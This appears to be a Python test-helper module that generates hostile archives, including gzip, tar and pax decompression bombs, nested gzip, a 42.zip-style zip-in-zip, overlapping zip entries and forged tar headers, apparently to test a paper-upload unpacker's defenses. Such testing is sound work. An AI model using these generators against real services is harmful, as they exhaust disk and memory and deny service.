"""Archives and compressed files made to harm: climbing names, links, devices, bombs."""

from __future__ import annotations

import gzip
import io
import tarfile
import zipfile
import zlib
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Sequence

Entry = tuple[str, bytes, bytes, str]  # name, type, content, link name


def packed(entries: Sequence[Entry], extra: bytes = b"") -> bytes:
    """A gzipped tar of ``entries``, with raw blocks ``extra`` in front."""
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=tarfile.GNU_FORMAT) as archive:
        for name, kind, content, link in entries:
            member = tarfile.TarInfo(name)
            member.type, member.size, member.linkname = kind, len(content), link
            archive.addfile(member, io.BytesIO(content))
    return gzip.compress(extra + raw.getvalue(), compresslevel=1, mtime=0)


def header(name: bytes, kind: bytes = b"0", size: bytes = b"00000000000", link: bytes = b"") -> bytes:
    """One block of a tar, with a checksum that fits whatever the fields say."""
    block = bytearray(512)
    for place, value in (
        (0, name[:100]),
        (100, b"0000644\0"),
        (124, size[:12]),
        (156, kind),
        (157, link[:100]),
    ):
        block[place : place + len(value)] = value
    block[257:265] = b"ustar\x0000"
    block[148:156] = b" " * 8
    block[148:156] = b"%06o\0 " % sum(block)
    return bytes(block)


def many_members(count: int, tex: bytes) -> bytes:
    """``count`` empty members before the paper."""
    packer = zlib.compressobj(6, wbits=31)
    block = header(b"x" * 90) * 10_000
    parts = [packer.compress(block) for _ in range(count // 10_000)]
    parts.append(packer.compress(gzip.decompress(packed([("main.tex", tarfile.REGTYPE, tex, "")]))))
    return b"".join(parts) + packer.flush()


def pax_bomb(megabytes: int, tex: bytes) -> bytes:
    """An extended header of ``megabytes`` that says one thing again and again."""
    record = b"30 comment=aaaaaaaaaaaaaaaaaa\n"
    body = record * (megabytes * 2**20 // len(record))
    body += b"\0" * (-len(body) % 512)
    return packed([("main.tex", tarfile.REGTYPE, tex, "")], header(b"pax", b"x", b"%011o" % len(body)) + body)


def sparse(tex: bytes) -> bytes:
    """A member of the old GNU form that says it is a sparse file of a terabyte."""
    block = bytearray(header(b"hole.tex", b"S", b"00000001000"))
    block[257:265] = b"ustar  \0"
    block[386:398], block[398:410] = b"00000000000\0", b"00000001000\0"
    block[483:495] = b"\x80" + (10**12).to_bytes(11, "big")
    block[148:156] = b" " * 8
    block[148:156] = b"%06o\0 " % sum(block)
    return packed([("main.tex", tarfile.REGTYPE, tex, "")], bytes(block) + b"x" * 512)


def gzip_bomb(megabytes: int, fill: bytes = b"\0") -> bytes:
    """One stream of one byte that unpacks to ``megabytes``."""
    packer = zlib.compressobj(9, wbits=31)
    return b"".join(packer.compress(fill * 2**20) for _ in range(megabytes)) + packer.flush()


def gzip_chain(megabytes: int) -> bytes:
    """Many small streams behind each other, together ``megabytes``."""
    return gzip.compress(b" " * 2**24, mtime=0) * (megabytes // 16)


def nested_gzip(depth: int, data: bytes) -> bytes:
    """``data`` packed ``depth`` times."""
    for _ in range(depth):
        data = gzip.compress(data, mtime=0)
    return data


def tar_bomb(megabytes: int, name: str) -> bytes:
    """One member of blanks that unpacks to ``megabytes``."""
    size = megabytes * 2**20
    packer = zlib.compressobj(9, wbits=31)
    parts = [packer.compress(header(name.encode(), b"0", b"%011o" % size))]
    parts += [packer.compress(b" " * 2**20) for _ in range(megabytes)]
    return b"".join(parts) + packer.compress(b"\0" * 1024) + packer.flush()


def zip_of(entries: Sequence[tuple[str, bytes]]) -> bytes:
    """A zip package, deflated."""
    raw = io.BytesIO()
    with zipfile.ZipFile(raw, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as package:
        for name, content in entries:
            package.writestr(name, content)
    return raw.getvalue()


def zip_in_zip(depth: int, copies: int) -> bytes:
    """``copies`` packages in a package, ``depth`` times, around 64 MB of blanks: as 42.zip is built."""
    data = zip_of([("x.xml", b" " * (64 << 20))])
    for level in range(depth):
        data = zip_of([(f"{level}-{number}.zip", data) for number in range(copies)])
    return data


def overlapping_zip(count: int) -> bytes:
    """A list of contents in which ``count`` entries are one and the same piece of the file."""
    data = zip_of([("word/document.xml", b" ".join(b"%x" % (n * n) for n in range(20_000)))])
    start = data.index(b"PK\x01\x02")
    end = data.index(b"PK\x05\x06")
    entry, tail = data[start:end], bytearray(data[end:])
    tail[8:12] = count.to_bytes(2, "little") * 2
    tail[12:16] = (len(entry) * count).to_bytes(4, "little")
    return data[:start] + entry * count + bytes(tail)
